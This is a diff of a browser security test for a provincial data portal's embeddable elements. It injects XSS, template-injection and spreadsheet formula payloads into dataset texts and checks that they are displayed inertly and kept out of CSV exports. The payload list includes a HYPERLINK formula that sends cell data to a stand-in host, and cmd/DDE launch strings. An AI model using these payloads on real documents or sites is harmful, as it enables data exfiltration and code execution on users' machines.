@@ -14,15 +14,30 @@ const dataset = JSON.parse(readFileSync(join(root, 'dist/datasets/lam-dong.json'
 /** What a text could be if somebody wanted to run something: as markup, in an attribute, in a spreadsheet, as a template, as a name of an object. */
 const payloads = [
   '<img src=x onerror="window.hacked=1">', '"><svg onload=window.hacked=1>', "javascript:window.hacked=1", '</style><script>window.hacked=1</script>', '${window.hacked=1}', '{{constructor.constructor("window.hacked=1")()}}',
-  '=HYPERLINK("https://nguoi-la.example/?"&A1)', '+1+cmd|" /C calc"!A0', '-1+1', '@SUM(1)', '__proto__', '\u202e\u0000\ufeff<!--',
+  '=HYPERLINK("https://nguoi-la.example/?"&A1)', '+1+cmd|" /C calc"!A0', '-1+1', '@SUM(1)', "5G,=cmd|'/C calc'!A0", 'x; =1+1', 'x\n\t+1', '",""@SUM(1)', '__proto__', '\u202e\u0000\ufeff<!--',
 ];
 
-/** The dataset with a payload in every text that a reader sees, and in every name of a person, office or file; what the program tells apart by stays. */
+/** The dataset with what no document of this province has: sections of sources, numbers of documents, partners and parts of tasks. */
+function filled(value) {
+  if (Array.isArray(value)) return value.map(filled);
+  if (!value || typeof value !== 'object') return value;
+  const copy = Object.fromEntries(Object.entries(value).map(([key, each]) => [key, filled(each)]));
+  if (copy.lines) copy.section = 'II.3';
+  if (copy.issuer) copy.number = '12/BC';
+  if (copy.recurrence || copy.printedState || copy.money) Object.assign(copy, { partners: { vi: 'sở', en: 'office' }, subtasks: [{ no: 1, name: { vi: 'việc', en: 'part' }, source: copy.source }] });
+  return copy;
+}
+
+/**
+ * The dataset with a payload in every text that a reader sees, and in every name of a person, office or file, each with its place in the file between
+ * two marks; what the program tells apart by stays.
+ */
 function hostile(value, path = [], count = { n: 0 }) {
   if (typeof value === 'string') {
     const key = path.at(-1);
-    const isWords = ['vi', 'en', 'printedState', 'number', 'section', 'file', 'owner', 'cadence', 'lead', 'unit'].includes(key) && !(key === 'unit' && path.length < 4);
-    return isWords ? `${payloads[count.n++ % payloads.length]} ${value.slice(0, 40)}` : value;
+    const isWords = ['vi', 'en', 'number', 'section', 'file', 'unit'].includes(key) && !(key === 'unit' && path.length < 4);
+    const place = path.filter((step) => !/^(\d+|vi|en)$/.test(step)).join('.');
+    return isWords ? `${payloads[count.n++ % payloads.length]} #${place}# ${value.slice(0, 40)}` : value;
   }
   if (Array.isArray(value)) return value.map((each, index) => hostile(each, [...path, index], count));
   if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, hostile(each, [...path, key], count)]));
@@ -33,6 +48,17 @@ const settings = {
   'chiso-indicator': { indicator: 'digital-economy-share-grdp' }, 'chiso-projection': { indicator: 'digital-economy-share-grdp' }, 'chiso-scenario': { indicators: 'digital-economy-share-grdp' },
 };
 const policy = "default-src 'none'; script-src 'self'; connect-src 'self'; worker-src blob:; img-src 'self'; require-trusted-types-for 'script'; trusted-types chiso";
+/** Texts deep in the file that somebody who uses the element gets to see. */
+const evidence = ['indicators.observations.source.section', 'indicators.targets.source.section', 'documents.title', 'documents.issuer', 'findings.detail'];
+const deep = {
+  'chiso-brief': ['documents.title', 'findings.detail', 'tasks.lead', 'indicators.missing.supplier'],
+  'chiso-compare': ['documents.title', 'concepts.bases.short'],
+  'chiso-indicator': [...evidence, 'indicators.definition', 'concepts.bases.numerator', 'findings.source.section'],
+  'chiso-projection': evidence,
+  'chiso-scenario': [...evidence, 'growthAssumptions.what'],
+  'chiso-scorecard': [...evidence, 'indicators.definition', 'concepts.bases.numerator', 'indicators.observations.note', 'indicators.missing.supplier', 'findings.source.section'],
+  'chiso-tasks': ['tasks.subtasks.name', 'tasks.partners', 'tasks.note', 'tasks.source.section', 'documents.title', 'documents.issuer'],
+};
 /** As strict as a portal can be: what would run or load from a text is refused and reported, and a report fails the test. */
 const html = `<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Cổng</title><script src="/dist/embed/chiso.js"></script></head><body><main></main></body></html>`;
 
@@ -65,24 +91,35 @@ describe('on a page with every element', () => {
     return { context, page, watched };
   }
 
-  /** Presses every button of the element that does not print, once, and types into every field. */
+  const textOf = (page) => page.evaluate(() => {
+    const trees = [document];
+    for (const tree of trees) for (const each of tree.querySelectorAll('*')) if (each.shadowRoot) trees.push(each.shadowRoot);
+    return trees.map((tree) => tree.textContent).join('\n');
+  });
+
+  /** Presses every button of the element that does not print, once, and types into every field; gives the places in the file of all texts that were to be seen. */
   async function useAll(page, tag) {
+    const places = new Set();
+    const look = async () => { for (const [, place] of (await textOf(page)).matchAll(/#([a-zA-Z.]+)#/g)) places.add(place); };
     const buttons = page.locator(`${tag} button:visible`);
     const count = Math.min(await buttons.count(), 25);
     for (let index = 0; index < count; index += 1) {
       const button = buttons.nth(index);
       if (/^(In|Print)/.test((await button.textContent({ timeout: 500 }).catch(() => 'In')) ?? '')) continue;
       await button.click({ timeout: 500 }).catch(() => undefined);
+      await look();
     }
     const fields = page.locator(`${tag} input:visible:not([type=range]):not([type=checkbox]):not([type=radio])`);
     for (let index = 0; index < Math.min(await fields.count(), 5); index += 1) await fields.nth(index).fill(payloads[0], { timeout: 500 }).catch(() => undefined);
     await page.waitForTimeout(200);
+    await look();
+    return places;
   }
 
   for (const { tagName, attributes } of elements) {
     describe(tagName, () => {
       it('shows texts of data as text, whatever they hold, and hands none of them to a spreadsheet as a formula', async () => {
-        const data = hostile(dataset);
+        const data = hostile(filled(dataset));
         const { context, page, watched } = await open(tagName, { data, datasets: [data], provinces: 'lam-dong', province: 'lam-dong', asOf: '2026-06-30', ...settings[tagName] });
         const downloads = [];
         page.on('download', (download) => downloads.push(download));
@@ -91,7 +128,8 @@ describe('on a page with every element', () => {
           await page.locator(`${tagName} button`, { hasText: 'CSV' }).first().click();
           assert.match((await download).suggestedFilename(), /\.csv$/);
         }
-        await useAll(page, tagName);
+        const places = await useAll(page, tagName);
+        assert.deepEqual(deep[tagName].filter((place) => !places.has(place)), []);
         const found = await page.evaluate(() => {
           const trees = [document];
           for (const tree of trees) for (const each of tree.querySelectorAll('*')) if (each.shadowRoot) trees.push(each.shadowRoot);
@@ -110,6 +148,9 @@ describe('on a page with every element', () => {
           if (!download.suggestedFilename().endsWith('.csv')) continue;
           const cells = text.replace(/^\ufeff/, '').split(/\r\n|[;,](?=(?:[^"]*"[^"]*")*[^"]*$)/).map((cell) => cell.replace(/^"|"$/g, ''));
           assert.deepEqual(cells.filter((cell) => /^\s*[=+@\t]/.test(cell) || /^\s*-(?![\d.,]+$)/.test(cell)), []);
+          // Nor for a spreadsheet that reads with another separator, or that ends a cell where the line ends.
+          const pieces = text.split(/[;,\t\r\n]/);
+          assert.deepEqual(pieces.filter((piece) => /^["\s]*[=+@]/.test(piece) || /^["\s]*-(?![\d.]+$)/.test(piece)), []);
         }
         await context.close();
       });
